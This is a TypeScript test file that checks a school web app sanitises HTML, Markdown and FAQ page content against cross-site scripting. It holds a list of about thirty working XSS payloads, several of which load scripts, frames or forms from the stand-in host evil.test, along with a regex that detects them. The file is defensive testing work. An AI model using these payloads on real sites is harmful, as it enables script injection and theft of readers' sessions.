import { beforeAll, expect } from 'vitest';
import { test } from '#tests/kit/database';
import { openSchool } from '../kit/school.ts';
import { openWebApp } from './drawn-pages.ts';

const MARK = 'attack-marker';
/** Each tries to run something in the reader's browser, or to load something from elsewhere. */
const HOSTILE = [
  `<script>${MARK}()</script>`,
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `<img src=x onerror=${MARK}()>`,
  `<p onmouseover="${MARK}()">x</p>`,
  `<a href="javascript:${MARK}()">x</a>`,
  `<a href=" &#106;avascript:${MARK}()">x</a>`,
  `<a href="java\tscript:${MARK}()">x</a>`,
  `<a href="vbscript:${MARK}">x</a>`,
  `<a href="data:text/html;base64,${MARK}">x</a>`,
  `<p style="width:expression(${MARK}())">x</p>`,
  `<p style="background:url(javascript:${MARK}())">x</p>`,
  `<style>p{background:url(//evil.test/${MARK})}</style>`,
  `<svg><script>${MARK}()</script></svg>`,
  `<svg onload=${MARK}()><animate onbegin=${MARK}()></svg>`,
  `<svg><a xlink:href="javascript:${MARK}()"><text>x</text></a></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${MARK}()>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${MARK}()></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${MARK}()">x</math>`,
  `<iframe src="https://evil.test/${MARK}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${MARK}()&lt;/script&gt;"></iframe>`,
  `<object data="//evil.test/${MARK}"></object><embed src="//evil.test/${MARK}">`,
  `<form action="//evil.test/${MARK}"><button formaction="javascript:${MARK}()">x</button></form>`,
  `<base href="//evil.test/${MARK}/"><link rel=stylesheet href="//evil.test/${MARK}">`,
  `<meta http-equiv="refresh" content="0;url=//evil.test/${MARK}">`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}()>"></noscript>`,
  `<template><img src=x onerror=${MARK}()></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${MARK}()>">`,
  `<!--><img src=x onerror=${MARK}()>-->`,
  `<xmp><p title="</xmp><img src=x onerror=${MARK}()>">`,
  `<img srcset="//evil.test/${MARK} 1x" src="//evil.test/x.png">`,
  `<video><source onerror="${MARK}()"></video><audio src=x onerror=${MARK}()>`,
  `<details open ontoggle=${MARK}()>x</details>`,
  `<a id="getElementById" name="cookie" href="#">x</a>`,
];
/** What a browser would act upon. Text that only looks like it is escaped and does not match. */
const ACTS =
  /<(?:script|style|svg|math|iframe|object|embed|form|base|meta|link|template|textarea|video|audio|source|details|button|noscript|xmp)\b|<[^>]*\s(?:on\w+|style|srcset|srcdoc|formaction|id|name)=|(?:href|src)="(?!https?:|mailto:|tel:|\/(?!\/)|#|[x1]")|(?:href|src)="?\/\//i;

let web: Awaited<ReturnType<typeof openWebApp>>;
beforeAll(async () => {
  web = await openWebApp();
});

test('nothing hostile that is saved as a page acts in the page that readers get', async ({ db }) => {
  const school = await openSchool(db, { web });
  for (const [index, hostile] of HOSTILE.entries()) {
    const body = { version: index, content: { kind: 'html', html: `<p>Before</p>${hostile}<p>After</p>` } };
    const saved = await school.ask('admin', 'PUT', '/api/admin/pages/terms', { body });
    expect(saved.status, hostile).toBe(200);
    const stored = await saved.json();
    expect(stored.content.html, hostile).not.toMatch(ACTS);
    school.content.bump();
    const reply = await (await school.ask('visitor', 'GET', '/api/pages/terms')).json();
    expect(reply.html, hostile).not.toMatch(ACTS);
    expect(reply.html, hostile).toContain('<p>Before</p>');
    const drawn = await (await school.ask('visitor', 'GET', '/terms')).text();
    expect(drawn, hostile).toContain('Before');
    expect(drawn, hostile).not.toMatch(new RegExp(`<(?:script|iframe|svg)[^>]*>[^<]*${MARK}\\(`));
    expect(drawn, hostile).not.toMatch(new RegExp(`\\son\\w+=["']?${MARK}`));
    const preview = await school.ask('admin', 'POST', '/api/admin/page-preview', {
      body: { html: hostile },
    });
    expect((await preview.json()).html, hostile).not.toMatch(ACTS);
  }
});

test('nothing hostile in the Markdown of a page acts in the page that readers get', async ({ db }) => {
  const school = await openSchool(db, { web });
  for (const [index, hostile] of HOSTILE.entries()) {
    const markdown = `Before\n\n${hostile}\n\n[x](javascript:${MARK}) ${hostile}\n\nAfter`;
    const body = { version: index, content: { kind: 'markdown', markdown } };
    const saved = await school.ask('admin', 'PUT', '/api/admin/pages/terms', { body });
    expect(saved.status, hostile).toBe(200);
    school.content.bump();
    const reply = await (await school.ask('visitor', 'GET', '/api/pages/terms')).json();
    expect(reply.html, hostile).toContain('<p>Before</p>');
    // Markdown keeps much of it as words; what acts is in tags.
    const tags = reply.html.match(/<[^>]*>/g).join('\n');
    expect(tags, hostile).not.toMatch(ACTS);
  }
});

test('the attack is seen where nothing is sanitised: the pattern can fail', () => {
  expect(HOSTILE.filter((hostile) => !ACTS.test(hostile))).toEqual([]);
});

test('what stands in the table by another way is sanitised when it is read', async ({ db }) => {
  const school = await openSchool(db, { web });
  await db.kysely
    .insertInto('page_content')
    .values({ page_name: 'about_us', content: `<p>We</p>${HOSTILE.join('')}` })
    .execute();
  const reply = await (await school.ask('visitor', 'GET', '/api/pages/about_us')).json();
  expect(reply.html).toContain('<p>We</p>');
  expect(reply.html).not.toMatch(ACTS);
});

test('questions and answers are text, in the page as in what search engines read', async ({ db }) => {
  const school = await openSchool(db, { web });
  const question = `</script><script>${MARK}()</script>`;
  const items = [{ id: 'a', question, answer: `<img src=x onerror=${MARK}()>` }];
  const body = { version: 0, content: { kind: 'faq', items } };
  expect((await school.ask('admin', 'PUT', '/api/admin/pages/faq', { body })).status).toBe(200);
  const drawn = await (await school.ask('visitor', 'GET', '/faq')).text();
  expect(drawn).not.toContain(question);
  expect(drawn).not.toContain(items[0]?.answer);
  const statement = /<script type="application\/ld\+json"[^>]*>([^<]*FAQPage[^<]*)<\/script>/.exec(
    drawn,
  )?.[1];
  expect(JSON.parse(statement ?? '{}').mainEntity[0].name).toBe(question);
});
